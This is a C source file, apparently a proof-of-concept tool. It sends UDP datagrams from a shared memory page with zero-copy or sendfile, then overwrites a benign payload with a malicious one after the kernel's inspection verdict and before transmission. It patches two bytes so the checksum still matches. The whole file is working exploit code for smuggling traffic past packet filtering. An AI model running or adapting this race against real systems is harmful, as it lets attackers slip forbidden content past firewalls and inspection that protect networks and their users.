/*
 * swap ADDRESS PORT COUNT GOOD EVIL send|sendfile CHECKSUM: sends COUNT datagrams whose payload lies in a page of
 * this program (MSG_ZEROCOPY, or sendfile), and writes EVIL over GOOD (hexadecimal, of one length) between judging and
 * arrival, with two first bytes that leave the checksum the same. CHECKSUM 0 sends without one (SO_NO_CHECK). Prints how many
 * were sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#ifndef SO_ZEROCOPY
#define SO_ZEROCOPY 60
#define MSG_ZEROCOPY 0x4000000
#endif

static int hex(const char *text, unsigned char *bytes)
{
	int length = 0;

	while (length < 512 && sscanf(text + 2 * length, "%2hhx", bytes + length) == 1)
		length++;
	return length;
}

static unsigned sum_of(const unsigned char *bytes, int length)
{
	unsigned sum = 0;

	for (int i = 0; i < length; i++)
		sum += i % 2 ? bytes[i] : bytes[i] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

static void wait_us(long us)
{
	struct timespec start, now;

	clock_gettime(CLOCK_MONOTONIC, &start);
	do
		clock_gettime(CLOCK_MONOTONIC, &now);
	while ((now.tv_sec - start.tv_sec) * 1000000 + (now.tv_nsec - start.tv_nsec) / 1000 < us);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned char good[512], evil[512];
	int length, count, file, fd, yes = 1, sent = 0;
	volatile unsigned char *page;

	if (argc != 8 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	to.sin_port = htons(atoi(argv[2]));
	count = atoi(argv[3]);
	length = hex(argv[4], good);
	if (hex(argv[5], evil) != length)
		return 2;
	file = memfd_create("page", 0);
	if (ftruncate(file, 4096) < 0)
		return 1;
	page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, file, 0);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &yes, sizeof(yes));
	if (atoi(argv[7]) == 0)
		setsockopt(fd, SOL_SOCKET, SO_NO_CHECK, &yes, sizeof(yes));
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return 1;
	for (int i = 0; i < count; i++) {
		struct msghdr message = { 0 };
		char control[256];
		off_t offset = 0;
		ssize_t result;

		evil[0] = evil[1] = 0;
		unsigned first = sum_of(good, length) + (0xffff - sum_of(evil, length));
		first = (first & 0xffff) + (first >> 16);
		evil[0] = first >> 8;
		evil[1] = first;
		memcpy((void *)page, good, length);
		if (strcmp(argv[6], "sendfile") == 0)
			result = sendfile(fd, file, &offset, length);
		else
			result = send(fd, (void *)page, length, MSG_ZEROCOPY);
		sent += result == length;
		/* The kernel waits longer and longer for the verdict: one of these times is behind it. */
		wait_us(20 + i % 100 * 20);
		memcpy((void *)page, evil, length);
		usleep(10000);
		do {
			message.msg_control = control;
			message.msg_controllen = sizeof(control);
		} while (recvmsg(fd, &message, MSG_ERRQUEUE | MSG_DONTWAIT) >= 0);
	}
	printf("%d\n", sent);
	return 0;
}
